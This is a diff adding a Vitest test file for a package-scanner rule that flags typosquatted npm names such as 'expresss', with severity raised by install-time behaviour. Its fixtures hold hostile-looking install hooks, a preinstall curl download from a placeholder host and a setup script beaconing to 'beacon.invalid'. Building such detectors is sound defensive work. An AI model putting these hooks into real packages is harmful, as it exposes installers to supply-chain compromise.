@@ -1,0 +1,57 @@
+import { describe, expect, it } from 'vitest';
+import type { MetadataSignal } from '../../analysis/manifest/metadata-signals.js';
+import { at, call, packageFacts } from '../rule-test-kit.js';
+import { metadataTyposquatName as rule } from './metadata-typosquat-name.js';
+
+const squat: MetadataSignal = {
+  kind: 'typosquat',
+  match: { name: 'expresss', target: 'express', kind: 'edit-distance', distance: 1, targetRank: 338 },
+};
+
+describe('metadata-typosquat-name', () => {
+  it('is medium/medium for the name alone', () => {
+    const findings = rule.run(packageFacts({ metadata: [squat] }));
+    expect(findings).toMatchObject([{ severity: 'medium', confidence: 'medium' }]);
+    expect(findings[0]?.message).toContain('"express"');
+  });
+
+  it('stays medium when the install hook is a known build helper', () => {
+    const facts = packageFacts({
+      manifest: { installScripts: { install: 'node-gyp rebuild' } },
+      metadata: [squat],
+    });
+    expect(rule.run(facts)).toMatchObject([{ severity: 'medium', confidence: 'medium' }]);
+  });
+
+  it('is high/medium when the look-alike runs its own code at install', () => {
+    const facts = packageFacts({
+      manifest: { installScripts: { postinstall: 'node setup.js' } },
+      code: [call('fs.readFileSync', 'filesystem-read', at('setup.js'))],
+      metadata: [squat],
+    });
+    expect(rule.run(facts)).toMatchObject([{ severity: 'high', confidence: 'medium' }]);
+  });
+
+  it('is decisive when the install-time file reaches the network', () => {
+    const facts = packageFacts({
+      manifest: { installScripts: { postinstall: 'node setup.js' } },
+      code: [call('https.get', 'network', at('setup.js'), ['https://beacon.invalid/'])],
+      metadata: [squat],
+    });
+    expect(rule.run(facts)).toMatchObject([{ severity: 'high', confidence: 'high' }]);
+  });
+
+  it('is decisive when the hook itself downloads', () => {
+    const facts = packageFacts({
+      manifest: { installScripts: { preinstall: 'curl -s https://x.invalid/p -o p' } },
+      metadata: [squat],
+    });
+    expect(rule.run(facts)).toMatchObject([{ confidence: 'high' }]);
+  });
+
+  it('is silent without the signal', () => {
+    expect(rule.run(packageFacts({ manifest: { installScripts: { postinstall: 'node x.js' } } }))).toEqual(
+      [],
+    );
+  });
+});
